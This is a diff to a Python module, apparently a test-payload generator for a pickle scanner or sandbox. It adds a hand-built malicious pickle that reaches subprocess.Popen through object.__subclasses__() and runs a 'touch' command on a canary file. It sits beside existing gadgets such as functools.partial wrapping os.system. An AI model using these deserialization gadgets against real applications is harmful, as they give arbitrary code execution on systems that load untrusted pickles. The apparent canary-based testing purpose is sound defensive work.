@@ -3,6 +3,7 @@
 import os
 import pickle
 import struct
+import subprocess
 from collections.abc import Iterator
 
 
@@ -76,6 +77,10 @@ def payloads(canary: str) -> Iterator[tuple[str, bytes]]:
         ),
     )
     yield "partial", pickled(call("functools", "partial", name("os", "system"), text(command)) + b")R")
+    classes = call("builtins", "getattr", name("builtins", "object"), text("__subclasses__")) + b")R"
+    at = struct.pack("<i", object.__subclasses__().index(subprocess.Popen))
+    popen = call("operator", "itemgetter", b"J" + at) + b"(" + classes + b"tR"
+    yield "subclasses", pickled(popen + b"((" + text("touch") + text(canary) + b"ttR")
     for module, attribute in GADGETS:
         yield f"{module}.{attribute}", pickled(call(module, attribute, text(python)))
 
